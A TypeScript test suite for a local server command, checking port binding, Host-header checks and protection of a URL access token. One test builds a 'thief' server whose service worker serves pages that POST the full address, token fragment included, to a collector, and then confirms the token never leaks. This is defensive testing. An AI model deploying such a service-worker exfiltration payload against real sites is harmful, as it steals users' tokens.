/** Tests that a program that once had the port of the server, or the same port of another address, never gets a token. */

import { afterAll, expect } from 'bun:test';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { hostname } from 'node:os';
import type { BrowserContext } from 'playwright-core';
import { launchBrowser } from '../support/browser.ts';
import { readAddress, serve } from '../support/http.ts';
import { type Sandbox, until } from '../support/queuectl.ts';
import { expectRefusal } from '../support/refusal.ts';
import { sandboxTest as test } from '../support/sandbox-test.ts';
import { interruptUntilClosed, onTerminal } from '../support/terminal.ts';

const browser = await launchBrowser();
afterAll(() => browser.close());

type Answer = Parameters<typeof createServer>[1];

/** Listens on one address. Returns null if another program listens there. */
function listenOn(address: string, port: number, answer?: Answer): Promise<Server | null> {
  return new Promise((resolve) => {
    const server = createServer(answer ?? (() => {}));
    server.on('error', () => resolve(null)).listen(port, address, () => resolve(server));
  });
}

const close = (server: Server | null): Promise<void> =>
  new Promise((resolve) => {
    if (server === null) return resolve();
    server.close(() => resolve());
    server.closeAllConnections();
  });

const portOf = (server: Server): number => (server.address() as AddressInfo).port;

/** A service worker that answers every page with one that sends its address, with the fragment, to `collector`. */
const serviceWorker = (collector: string): string => `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  const page = "<h1>stolen</h1><script>fetch('${collector}', { method: 'POST', mode: 'no-cors', body: location.href })</script>";
  addEventListener('fetch', (event) => {
    if (event.request.mode === 'navigate')
      event.respondWith(new Response(page, { headers: { 'content-type': 'text/html' } }));
  });`;

/** Starts a program on both loopback addresses that registers a service worker in every browser that opens it. */
async function startThief(port: number, collector: string): Promise<() => Promise<void>> {
  const answer: Answer = (incoming, outgoing) => {
    const isScript = incoming.url === '/worker.js';
    outgoing.writeHead(200, { 'content-type': isScript ? 'text/javascript' : 'text/html' });
    outgoing.end(
      isScript
        ? serviceWorker(collector)
        : `<h1>thief</h1><script>navigator.serviceWorker.register('/worker.js')</script>`,
    );
  };
  const servers = await Promise.all(['127.0.0.1', '::1'].map((address) => listenOn(address, port, answer)));
  expect(servers).not.toContain(null);
  return async () => void (await Promise.all(servers.map(close)));
}

/** Opens an address until its pages come from the service worker. */
async function openUntilStolen(context: BrowserContext, url: string): Promise<void> {
  const page = await context.newPage();
  await until(async () => {
    // Otherwise the page would not be loaded again, because only the fragment differs.
    await page.goto('about:blank');
    await page.goto(url);
    return page.locator('h1', { hasText: 'stolen' }).isVisible();
  }, `a service worker answers ${url}`);
  await page.close();
}

/** Starts the server on a terminal. Returns the first address with a token that it prints. */
async function startOnTerminal(
  box: Sandbox,
  port: number,
): Promise<{ url: string; stop(): Promise<number> }> {
  const terminal = onTerminal(box, ['serve', '--port', String(port)], 24, 160);
  const [url] = await until(() => /http\S+#token=[\w-]{43}/.exec(terminal.stdout()), 'it prints its address');
  return { url: url!, stop: () => interruptUntilClosed(terminal) };
}

test('service workers of an earlier program on the port get no token, also if it took the port between two servers', async (box) => {
  let loot = '';
  const collector = (await listenOn('127.0.0.1', 0, (incoming, outgoing) => {
    incoming.on('data', (data) => {
      loot += data;
    });
    incoming.on('end', () => outgoing.end());
  }))!;
  const context = await browser.newContext();
  const page = await context.newPage();
  try {
    const first = await startOnTerminal(box, 0);
    const port = Number(new URL(first.url).port);
    await page.goto(first.url);
    await page.locator('.frame').waitFor();
    await first.stop();
    const endThief = await startThief(port, `http://127.0.0.1:${portOf(collector)}/`);
    const names = ['127.0.0.1', 'localhost', '[::1]', new URL(first.url).hostname];
    for (const name of new Set(names)) await openUntilStolen(context, `http://${name}:${port}/#x`);
    expect(loot).toContain('#x');
    await endThief();

    const second = await startOnTerminal(box, port);
    const next = await context.newPage();
    await next.goto(second.url);
    await next.locator('.frame, h1:has-text("stolen")').waitFor();
    const token = second.url.split('#token=')[1]!;
    expect(await next.locator('h1').first().textContent()).not.toBe('stolen');
    expect(loot).not.toContain(token);
    await second.stop();
  } finally {
    await context.close();
    await close(collector);
  }
});

test('no other program can listen on an address of a name that the server answers to', async (box) => {
  for (const host of ['127.0.0.1', '::1', 'LOCALHOST']) {
    const site = await serve(box, '--host', host);
    for (const address of ['127.0.0.1', '::1'])
      expect([host, address, (await listenOn(address, site.port)) === null]).toEqual([host, address, true]);
    for (const name of ['127.0.0.1', '[::1]', 'localhost']) {
      const { status } = await fetch(`http://${name}:${site.port}/healthz`);
      expect({ host, name, status }).toEqual({ host, name, status: 200 });
    }
  }
  for (const address of ['127.0.0.1', '::1']) {
    const other = (await listenOn(address, 0))!;
    const place = `${address.includes(':') ? `[${address}]` : address}:${portOf(other)}`;
    for (const host of ['127.0.0.1', '::1', 'localhost']) {
      const refusal = await box.run(['serve', '--port', String(portOf(other)), '--host', host]);
      expectRefusal(refusal, 1, new RegExp(`already listening on ${RegExp.escape(place)}`));
    }
    await close(other);
  }
});

test('a server that listens on only some of the addresses of a name does not answer to that name', async (box) => {
  const other = (await listenOn('127.0.0.2', 0))!;
  const free = String(portOf(other));
  await close(other);
  const rows: [flags: string[], address: string, accepted: string[], refused: string[]][] = [
    [
      ['--port', '0', '--host', '0.0.0.0', '--allow-remote'],
      '127.0.0.1',
      ['127.0.0.1'],
      ['localhost', '[::1]', hostname()],
    ],
    [
      ['--port', '0', '--host', '::', '--allow-remote'],
      '127.0.0.1',
      ['127.0.0.1', '[::1]', 'localhost', hostname()],
      ['x'],
    ],
    [
      ['--host', '127.0.0.2', '--port', free, '--url', `http://127.0.0.2:${free}`],
      '127.0.0.2',
      ['127.0.0.2'],
      ['127.0.0.1', 'localhost', '[::1]', hostname()],
    ],
    [
      ['--port', '0'],
      '127.0.0.1',
      ['127.0.0.1', '[::1]', 'localhost'],
      [hostname(), 'q-0123456789abcdef.localhost'],
    ],
  ];
  for (const [flags, address, accepted, refused] of rows) {
    const { port } = new URL((await readAddress(box.start(['serve', ...flags]))).url);
    for (const [names, status] of [
      [accepted, 200],
      [refused, 421],
    ] as const)
      for (const name of names) {
        const headers = { host: `${name}:${port}` };
        const answer = await fetch(`http://${address}:${port}/healthz`, { headers });
        expect({ flags, name, status: answer.status }).toEqual({ flags, name, status });
      }
  }
  // Browsers have no name for this address that could be new at each start.
  for (const [port, hinted] of [
    ['7793', 7793],
    ['0', 7780],
  ]) {
    const refusal = await box.run(['serve', '--host', '127.0.0.2', '--port', `${port}`]);
    expectRefusal(refusal, 6, /no names for 127\.0\.0\.2/);
    expect(refusal.stderr).toContain(`--port ${hinted} --url http://127.0.0.2:${hinted}/`);
  }
  // Another user may listen on the other addresses of these names.
  for (const name of ['localhost.', 'a.localhost', 'ip6-localhost', '[::1]'])
    expectRefusal(await box.run(['serve', '--host', '127.0.0.2', '--url', `http://${name}:1/`]), 6, /lead/);
});
